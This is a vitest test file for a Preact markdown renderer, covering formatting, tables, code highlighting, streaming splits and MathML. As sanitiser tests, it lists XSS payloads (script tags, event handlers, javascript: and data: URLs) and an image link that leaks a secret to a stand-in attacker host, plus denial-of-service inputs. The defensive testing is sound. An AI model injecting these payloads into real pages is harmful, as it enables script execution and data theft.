import { render } from 'preact-render-to-string';
import { expect, test } from 'vitest';
import { parseMarkdown, splitTopLevel } from './blocks';
import { highlight } from './highlight';
import { safeUrl } from './inline';
import { closeOpenMarks, Markdown } from './markdown';

const html = (text: string) => render(<Markdown text={text} />).replace(/^<div class="markdown">|<\/div>$/g, '');

test.each([
  ['*a* **b** ***c*** ~~d~~', '<p><em>a</em> <strong>b</strong> <em><strong>c</strong></em> <del>d</del></p>'],
  ['2*3*4 and snake_case_name', '<p>2<em>3</em>4 and snake_case_name</p>'],
  ['**bold with *inner* text**', '<p><strong>bold with <em>inner</em> text</strong></p>'],
  ['open ** and \\*not\\*', '<p>open ** and *not*</p>'],
  ['`` a ` b `` and `c`', '<p><code>a ` b</code> and <code>c</code></p>'],
  ['one  \ntwo\\\nthree<br>four', '<p>one<br/>two<br/>three<br/>four</p>'],
  ['# Title #', '<h3 class="level-1">Title</h3>'],
  ['a\n\n---\n\nb', '<p>a</p><hr/><p>b</p>'],
  ['> quoted\nlazy\n>\n> more', '<blockquote><p>quoted\nlazy</p><p>more</p></blockquote>'],
  ['- a\n- b\n  - c', '<ul><li>a</li><li>b<ul><li>c</li></ul></li></ul>'],
  ['3. a\n4. b', '<ol start="3"><li>a</li><li>b</li></ol>'],
  ['1. a\n\n   more\n2. b', '<ol start="1"><li><p>a</p><p>more</p></li><li><p>b</p></li></ol>'],
  ['Text:\n- item', '<p>Text:</p><ul><li>item</li></ul>'],
])('renders %j', (text, expected) => {
  expect(html(text)).toBe(expected);
});

test('links web and mail addresses, bare or not', () => {
  expect(html('[a](https://x.org/p_(q) "t") <https://y.org> https://z.org/a?b=1.')).toBe(
    '<p><a href="https://x.org/p_(q)" target="_blank" rel="noopener noreferrer nofollow">a</a> ' +
    '<a href="https://y.org" target="_blank" rel="noopener noreferrer nofollow">https://y.org</a> ' +
    '<a href="https://z.org/a?b=1" target="_blank" rel="noopener noreferrer nofollow">https://z.org/a?b=1</a>.</p>');
});

test('renders tables with their alignment and code that holds a bar', () => {
  const out = html('| a | b |\n|:-:|--:|\n| `x|y` | 1 \\| 2 |\n| z |');
  expect(out).toContain('<th class="center" scope="col">a</th><th class="right" scope="col">b</th>');
  expect(out).toContain('<td class="center"><code>x|y</code></td><td class="right">1 | 2</td>');
  expect(out).toContain('<td class="center">z</td><td class="right"></td>');
});

test('keeps code as it is, fenced with a language, unclosed, inside a list', () => {
  expect(parseMarkdown('```Python title\n  x = "<b>"\n\n# no heading\n```\nafter')).toMatchObject([
    { kind: 'code', lang: 'python', text: '  x = "<b>"\n\n# no heading' }, { kind: 'paragraph' }]);
  expect(parseMarkdown('~~~\nnot ``` closed')).toMatchObject([{ kind: 'code', text: 'not ``` closed' }]);
  expect(parseMarkdown('1. step\n   ```sh\n   ls\n   ```\n2. next')).toMatchObject([
    { kind: 'list', items: [{ blocks: [{ kind: 'paragraph' }, { kind: 'code', lang: 'sh', text: 'ls' }] }, {}] }]);
});

test('renders tasks', () => {
  expect(html('- [x] done\n- [ ] open')).toContain('<li class="task"><input type="checkbox" checked disabled aria-label="Done"/>done</li>');
});

const HOSTILE = [
  '<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '<svg/onload=alert(1)>', '<iframe src="javascript:alert(1)">',
  '[x](javascript:alert(1))', '[x](JaVaScRiPt:alert(1))', '[x](\x01javascript:alert(1))', '[x](java\tscript:alert(1))', '[x](data:text/html,<script>alert(1)</script>)',
  '[x](vbscript:a)', '<javascript:alert(1)>', '![x](javascript:alert(1))', '![x](https://evil.example/?q=secret)', '[x](https://a" onclick="alert(1))',
  '`<b onmouseover=alert(1)>`', '```html" onload="alert(1)\n<script>x</script>\n```', '| <img src=x onerror=alert(1)> |\n|--|\n| <b> |',
  '# <script>', '> <style>*{}</style>', '- <a href="javascript:x">y</a>', '$<script>$', '\\[ \\href{javascript:alert(1)}{x} \\]', '&lt;script&gt;',
  '[<img src=x onerror=alert(1)>](https://a.org)', '[a](https://a.org/<script>)', '<br/onload=alert(1)>', '[x](//evil.example)', '[x](/v1/models)',
];

test.each(HOSTILE)('makes no tag, handler or script address of %j', (text) => {
  const out = html(text);
  const tags = [...out.matchAll(/<\/?([a-z0-9]+)/gi)].map((m) => m[1]!.toLowerCase());
  const allowed = 'div p h3 h4 strong em del code pre span a ul ol li blockquote hr br table thead tbody tr th td input figure figcaption button svg path math mrow mo mi mn'.split(' ');
  expect(tags.filter((t) => !allowed.includes(t))).toEqual([]);
  const attributes = [...out.matchAll(/<[^>]*>/g)].flatMap((m) => [...m[0].replace(/"[^"]*"/g, '""').matchAll(/\s([a-z-]+)=/gi)].map((a) => a[1]!.toLowerCase()));
  expect(attributes.filter((a) => a.startsWith('on') || a === 'style' || a === 'src' || a === 'srcdoc')).toEqual([]);
  for (const [, href] of out.matchAll(/href="([^"]*)"/g)) expect(href).toMatch(/^(https?:\/\/|mailto:|#)/);
});

test('never loads an image', () => {
  expect(html('![cat](https://a.org/cat.png)')).not.toContain('<img');
  expect(html('![cat](https://a.org/cat.png)')).toContain('cat');
});

test('knows safe addresses', () => {
  for (const url of ['https://a', 'HTTP://a', 'mailto:a@b', '#x']) expect(safeUrl(url)).toBe(url);
  for (const url of ['javascript:1', ' javascript:1', 'data:x', 'file:///x', '//a', '/x', 'blob:x', 'https:x', '']) expect(safeUrl(url)).toBe('');
});

test.each([
  ['*'.repeat(40_000)], ['**a '.repeat(12_000)], ['['.repeat(40_000)], ['[a]('.repeat(10_000)], ['`a``b'.repeat(9_000)], ['> '.repeat(20_000) + 'x'],
  ['- '.repeat(20_000) + 'x'], ['  - x\n'.repeat(5_000)], ['_a*b_c*'.repeat(6_000)], ['| a '.repeat(10_000) + '\n' + '|-'.repeat(10_000)], [' '.repeat(200_000) + 'x'],
  ['# ' + ' '.repeat(100_000) + '#x'], ['$$'.repeat(20_000)], ['\\['.repeat(20_000)], ['<'.repeat(40_000)], ['http://'.repeat(7_000)], ['```'.repeat(10_000)],
  ['a\n'.repeat(50_000)], ['~~'.repeat(20_000)], ['![['.repeat(10_000)], ['$a'.repeat(20_000)], ['\\(a'.repeat(15_000)], ['1. '.repeat(15_000)],
])('takes hostile text in bounded time: %#', (text) => {
  const begin = performance.now();
  render(<Markdown text={text} />);
  expect(performance.now() - begin).toBeLessThan(3000);
});

test('splits a growing text where blocks are independent, and renders the same as whole', () => {
  const text = 'a\n\n- x\n\n  y\n- z\n\n```\nb\n\nc\n```\n\nd\n\n$$\nq\n\nr\n$$\n\n1. e\n\n2. f\n\n> g\n\n    code';
  const parts = splitTopLevel(text);
  expect(parts.length).toBeGreaterThan(3);
  expect(parts.flatMap((p) => parseMarkdown(p))).toEqual(parseMarkdown(text));
});

test.each([
  ['a `b', 'a `b`'], ['a `', 'a '], ['`a` **b', '`a` **b**'], ['a **', 'a '], ['**b*', '**b**'], ['`a` b', '`a` b'], ['```\nx `y', '```\nx `y'], ['old `x\nnew', 'old `x\nnew'],
])('closes what is open at the end of a growing text: %j', (text, expected) => {
  expect(closeOpenMarks(text)).toBe(expected);
});

test('highlights without losing a character', () => {
  const samples: [string, string][] = [
    ['python', 'def f(x):\n    """doc"""\n    return "a\\"b" + 0x1f # c'], ['js', 'const a = `x${1}`; // c\n/* open'], ['html', '<!-- c --><a href="x">t</a><'],
    ['diff', '@@ -1 +1 @@\n-a\n+b\n c'], ['json', '{"k": [1.5e3, true, "v"]}'], ['cpp', '#include <a>\nint main() { return \'c\'; }'], ['nope', '<b>'],
    ['sql', "SELECT 'it''s' -- c"], ['yaml', 'key: value # c'], ['bash', 'echo "$#" \'x\' # c'],
  ];
  for (const [lang, code] of samples) expect(highlight(code, lang).map(([, t]) => t).join('')).toBe(code);
  expect(highlight('return 1', 'python')).toEqual([['keyword', 'return'], ['', ' '], ['number', '1']]);
  expect(highlight('x', '__proto__')).toEqual([['', 'x']]);
});

test('draws formulas as MathML and shows what it does not know as it is', () => {
  expect(html('Here $\\frac{a}{b}$ costs $5 and $6.')).toContain('<mfrac><mrow><mi>a</mi></mrow><mrow><mi>b</mi></mrow></mfrac>');
  expect(html('It costs $5 and $6 today')).toBe('<p>It costs $5 and $6 today</p>');
  expect(html('\\[ x_1^2 + \\sqrt{y} = \\begin{pmatrix} 1 & 2 \\\\ 3 & 4 \\end{pmatrix} \\]')).toContain('<msubsup><mi>x</mi><mn>1</mn><mn>2</mn></msubsup>');
  expect(html('$\\unknown{x}$')).toBe('<p><code class="tex">\\unknown{x}</code></p>');
  expect(html('\\(' + '{'.repeat(200) + 'x' + '}'.repeat(200) + '\\)')).toContain('<code class="tex">');
});
